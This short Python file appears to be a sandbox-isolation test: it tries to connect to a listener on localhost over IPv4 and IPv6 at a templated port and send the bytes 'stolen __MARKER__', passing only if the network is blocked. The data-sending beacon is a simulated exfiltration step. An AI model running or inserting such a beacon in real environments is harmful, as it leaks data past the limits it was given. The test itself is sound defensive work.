"""Phones home to a listener on the host: there must be no network in the sandbox."""

import socket

PORT = int("__PORT__")

for host in ("127.0.0.1", "localhost", "::1"):
    try:
        with socket.create_connection((host, PORT), timeout=2) as conn:
            conn.sendall(b"stolen __MARKER__")
    except OSError:
        pass
